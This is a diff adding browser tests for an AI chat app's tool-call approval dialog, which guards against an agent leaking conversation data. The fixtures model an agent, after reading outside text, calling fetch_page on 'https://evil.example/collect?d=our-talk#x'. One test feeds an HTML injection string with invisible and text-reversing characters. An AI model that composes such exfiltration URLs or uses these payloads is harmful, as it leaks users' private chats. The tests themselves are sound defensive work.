@@ -1,0 +1,214 @@
+import { expect, test } from 'vitest';
+import { userEvent } from 'vitest/browser';
+import type { ApprovalAnswer, ApprovalRequest } from '../../src/contracts/permission';
+import { chatRecord } from '../support/stored-chat';
+import { phone, show } from './show';
+
+const request = (changed: Partial<ApprovalRequest> = {}): ApprovalRequest => ({
+  id: 'r1',
+  chatId: 'chat',
+  call: {
+    type: 'tool-call',
+    id: 'c1',
+    name: 'fetch_page',
+    arguments: { url: 'https://evil.example/collect?d=our-talk#x' },
+  },
+  toolTitle: 'Read a page',
+  reason: 'composed-url-after-outside-text',
+  targets: ['evil.example'],
+  url: 'https://evil.example/collect?d=our-talk#x',
+  sources: ['news.example'],
+  offers: ['chat', 'always'],
+  isLastChance: false,
+  ...changed,
+});
+
+/** The whole screen, on which something is asked; `answers` are what came of it. */
+async function ask(changed?: Partial<ApprovalRequest>, options: Parameters<typeof show>[0] = {}) {
+  const shown = await show({ chats: [chatRecord('chat', { title: 'What was asked' })], ...options });
+  const answers: (ApprovalAnswer | 'stopped')[] = [];
+  const abort = new AbortController();
+  const put = (asked: ApprovalRequest) =>
+    void shown.app.approvals.ask(asked, abort.signal).then(
+      (answer) => answers.push(answer),
+      () => answers.push('stopped'),
+    );
+  put(request(changed));
+  const dialog = shown.screen.getByRole('dialog');
+  await expect.element(dialog).toBeVisible();
+  const button = (name: string) => dialog.getByRole('button', { name, exact: true });
+  return { ...shown, answers, abort, put, dialog, button };
+}
+
+/** Longer than a click must stay alone, and than the question must be seen. */
+const settle = () => new Promise((resolve) => setTimeout(resolve, 900));
+
+test('says what, where, why, and whose text is in the chat, and starts on Deny', async () => {
+  const { dialog, button, screen } = await ask();
+  await expect.element(dialog).toHaveAccessibleName('Allow “Read a page”?');
+  await expect.element(dialog).toHaveAccessibleDescription(/wrote this address itself.*gives nothing away/);
+  await expect.element(button('Deny')).toHaveFocus();
+  for (const said of ['fetch_page', 'evil.example', 'news.example']) {
+    await expect.element(dialog).toHaveTextContent(said);
+  }
+  const address = screen.getByRole('figure', { name: 'Address' });
+  expect(address.element().textContent.trim()).toBe('https://evil.example/collect?d=our-talk#x');
+  expect(address.element().querySelector('mark')?.textContent).toBe('?d=our-talk#x');
+  expect(JSON.parse(screen.getByRole('figure', { name: 'Arguments' }).element().textContent)).toEqual({
+    url: 'https://evil.example/collect?d=our-talk#x',
+  });
+  expect(dialog.element().matches(':modal')).toBe(true);
+});
+
+test.for<[name: string, answer: ApprovalAnswer]>([
+  ['Deny', 'deny'],
+  ['Allow once', 'once'],
+  ['Allow in this chat', 'chat'],
+  ['Always allow evil.example', 'always'],
+])('"%s" answers so, and the dialog is gone', async ([name, answer]) => {
+  const { answers, button, dialog } = await ask();
+  await button(name).click();
+  await expect.poll(() => answers).toEqual([answer]);
+  await expect.element(dialog).not.toBeInTheDocument();
+});
+
+test('offers only what is offered', async () => {
+  const { dialog } = await ask({ offers: [] });
+  const names = dialog
+    .getByRole('button')
+    .elements()
+    .map((node) => node.textContent.trim());
+  expect(names).toEqual(['Deny', 'Allow once']);
+});
+
+test('until it has been seen for a while nothing can be allowed, and it can be refused', async () => {
+  const { answers, button } = await ask();
+  const allow = button('Allow once').element() as HTMLButtonElement;
+  expect(allow.disabled).toBe(true);
+  await userEvent.click(allow, { force: true, timeout: 300 }).catch(() => undefined);
+  expect(answers).toEqual([]);
+  await button('Deny').click();
+  await expect.poll(() => answers).toEqual(['deny']);
+});
+
+test('a question that takes the place of another must be seen anew', async () => {
+  const { answers, button, put, dialog } = await ask();
+  put(request({ id: 'r2', url: 'https://second.example/', targets: ['second.example'] }));
+  await button('Allow once').click();
+  await expect.poll(() => answers).toEqual(['once']);
+  await expect.element(dialog).toHaveTextContent('second.example');
+  await expect.element(button('Allow once')).toBeDisabled();
+  await expect.element(button('Allow once')).toBeEnabled();
+});
+
+test('a script cannot allow', async () => {
+  const { answers, button } = await ask();
+  const allow = button('Allow once');
+  await expect.element(allow).toBeEnabled();
+  const node = allow.element() as HTMLButtonElement;
+  node.click();
+  node.dispatchEvent(new PointerEvent('pointerdown', { bubbles: true }));
+  node.dispatchEvent(new MouseEvent('click', { bubbles: true, detail: 1 }));
+  node.focus();
+  node.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
+  await settle();
+  expect(answers).toEqual([]);
+});
+
+test('a double click does not allow', async () => {
+  const { answers, button, dialog } = await ask();
+  await expect.element(button('Allow once')).toBeEnabled();
+  await button('Allow once').dblClick();
+  await settle();
+  expect(answers).toEqual([]);
+  await expect.element(dialog).toBeVisible();
+});
+
+test.for(['{Enter>}', '[Space>]'])('%s held down does not allow', async (key) => {
+  const { answers, button } = await ask();
+  const allow = button('Allow once');
+  await expect.element(allow).toBeEnabled();
+  // Held since before: the button only ever sees repeats.
+  const node = allow.element() as HTMLButtonElement;
+  const name = key.includes('Enter') ? 'Enter' : ' ';
+  node.focus();
+  const repeat = new KeyboardEvent('keydown', { key: name, repeat: true, bubbles: true, cancelable: true });
+  expect(node.dispatchEvent(repeat)).toBe(false);
+  await settle();
+  expect(answers).toEqual([]);
+});
+
+test('a key pressed on a live button does', async () => {
+  const { answers, button } = await ask();
+  await expect.element(button('Allow once')).toBeEnabled();
+  await userEvent.tab();
+  await expect.element(button('Allow once')).toHaveFocus();
+  await userEvent.keyboard('{Enter}');
+  await expect.poll(() => answers).toEqual(['once']);
+});
+
+test('Escape is refusing', async () => {
+  const { answers } = await ask();
+  await userEvent.keyboard('{Escape}');
+  await expect.poll(() => answers).toEqual(['deny']);
+});
+
+test('Stop takes it away, and the focus is back where it was', async () => {
+  const shown = await show();
+  await shown.message.click();
+  const abort = new AbortController();
+  const asked = shown.app.approvals.ask(request(), abort.signal);
+  asked.catch(() => undefined);
+  await expect.element(shown.screen.getByRole('dialog')).toBeVisible();
+  abort.abort();
+  await expect.element(shown.screen.getByRole('dialog')).not.toBeInTheDocument();
+  await expect(asked).rejects.toThrow();
+  await expect.element(shown.message).toHaveFocus();
+});
+
+test('names the chat that asks, if it is not the one on the screen', async () => {
+  const { dialog } = await ask();
+  await expect.element(dialog).toHaveTextContent('Asked by another chat: “What was asked”.');
+});
+
+test('warns before the third refusal', async () => {
+  const { dialog } = await ask({ isLastChance: true });
+  await expect.element(dialog).toHaveAccessibleDescription(/Refused again, it is off/);
+});
+
+test('a host in other letters is shown both ways', async () => {
+  const { dialog, button } = await ask({ targets: ['xn--e1afmkfd.xn--80akhbyknj4f'] });
+  await expect
+    .element(dialog)
+    .toHaveTextContent('xn--e1afmkfd.xn--80akhbyknj4f (shown as “пример.испытание”)');
+  await expect.element(button('Always allow xn--e1afmkfd.xn--80akhbyknj4f')).toBeInTheDocument();
+});
+
+test('what is not seen, or turns the text round, is written out; nothing becomes markup', async () => {
+  const query = 'a\u202eb\u200b<img src=x onerror=alert(1)>\u{e0041}';
+  const { dialog, screen } = await ask({
+    reason: 'first-search',
+    url: undefined,
+    query,
+    call: { type: 'tool-call', id: 'c', name: 'web_search', arguments: { query } },
+  });
+  await expect
+    .element(dialog)
+    .toHaveTextContent('a\\u202eb\\u200b<img src=x onerror=alert(1)>\\udb40\\udc41');
+  expect(dialog.element().querySelector('img')).toBeNull();
+  const given = screen.getByRole('figure', { name: 'Arguments' }).element().textContent;
+  expect(given).not.toMatch(/\p{Cf}/u);
+  expect(JSON.parse(given)).toEqual({ query });
+});
+
+test('fits a phone, with a long address', async () => {
+  const url = `https://evil.example/${'path/'.repeat(100)}?d=${'x'.repeat(1500)}`;
+  const { dialog, button } = await ask({ url, isLastChance: true }, { size: phone });
+  const box = dialog.element().getBoundingClientRect();
+  expect(box.width).toBeLessThanOrEqual(390);
+  expect(box.height).toBeLessThanOrEqual(844);
+  expect(dialog.element().scrollWidth).toBe(dialog.element().clientWidth);
+  await expect.element(button('Deny')).toHaveFocus();
+  button('Deny').element().scrollIntoView();
+  await expect.element(button('Deny')).toBeVisible();
+});
